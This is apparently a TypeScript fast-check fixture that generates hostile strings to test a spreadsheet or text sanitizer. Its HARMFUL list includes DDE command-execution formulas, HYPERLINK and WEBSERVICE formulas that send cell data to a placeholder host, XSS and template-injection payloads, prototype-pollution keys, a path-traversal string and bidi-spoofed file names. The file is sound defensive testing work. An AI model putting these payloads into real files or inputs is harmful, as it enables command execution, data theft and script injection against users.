import fc from "fast-check";

/** The longest text that a cell of Excel holds. */
export const LONGEST = 32_767;

/** Beginnings that make a spreadsheet, a shell or a page take a text for more than a text. */
const BEGINNINGS = [
  "=",
  "+",
  "-",
  "@",
  "\t",
  "\n",
  "\r",
  "|",
  "'",
  '"',
  "\uFF1D",
  " =",
  "\u200B=",
  "\u0000=",
];

/** Texts that have done harm elsewhere, each for a reason of its own. */
export const HARMFUL = [
  '=HYPERLINK("https://example.invalid/?"&A1,"Klik")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=WEBSERVICE("https://example.invalid/"&G9)',
  "\t=1+1",
  "\r\n=1+1",
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  '"><svg/onload=alert(1)>',
  "]]></t><f>1+1</f><t>",
  "&lt;b&gt;&amp;#61;1+1",
  "_x003D_1+1",
  "${7*7} {{7*7}} %s %n $& $1",
  "__proto__",
  "constructor",
  "hasOwnProperty",
  "toString",
  "\u202Egnp.exe\u202C",
  "\u2066Total\u2069 \u2067Total\u2069",
  "To\u200Btal\u00AD Kelu\uFEFFrahan",
  "\u05D0\u05D1\u05D2 12 (G12)",
  "\uD800",
  "Total \uDFFF\uD83D",
  "\u001B]0;judul\u0007\u001B[2J\u001B[31m",
  "\u009B31m\u0085\u007F",
  "\uFFFE\uFFFF\u0000\u0008",
  "\u2028\u2029\u000B\u000C",
  "Z\u0361\u0361\u0361\u0361\u0361\u0361\u0361\u0361\u0361\u0361\u0361algo",
  "Total\n15 dari 15 indikator terhitung.",
  "../../etc/passwd",
  "NaN",
  "Infinity",
  "1e999",
  "0x10",
] as const;

/** A text from somebody who means harm: one of the known ones, any characters at all, or both with a bad beginning. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...HARMFUL),
  fc.string({ unit: "binary", maxLength: 60 }),
  fc.array(fc.nat({ max: 0xffff }), { maxLength: 30 }).map((codes) => String.fromCharCode(...codes)),
  fc
    .tuple(fc.constantFrom(...BEGINNINGS), fc.constantFrom("1+1", "Total Kelurahan", "<b>x</b>", ""))
    .map(([beginning, rest]) => beginning + rest),
  fc
    .array(fc.constantFrom(...HARMFUL, "Total", "Jumlah", " : ", "/", "(", ")", " x 100%", "\n"), {
      maxLength: 8,
    })
    .map((pieces) => pieces.join("")),
);

/** Texts as long as a cell can hold, of the kinds that make careless patterns slow. */
export const LONG: readonly (readonly [name: string, text: string])[] = [
  ...[
    "a",
    "(",
    ")",
    "/",
    ":",
    " ",
    "-",
    "1",
    "x ",
    "1.",
    "((a",
    "a/b:",
    "\n",
    "\u00A0",
    "\u202E",
    "\u{1F600}",
    "dibagi ",
    "100% ",
    "x 100% ",
    "Jumlah a : Total b + ",
    "=",
    "<b>",
    "\u0301",
    "_x0041_",
    "1,1;",
    "…",
    '"',
    "{",
    "a (b) ",
  ].map(
    (piece) =>
      [JSON.stringify(piece), piece.repeat(Math.ceil(LONGEST / piece.length)).slice(0, LONGEST)] as const,
  ),
];
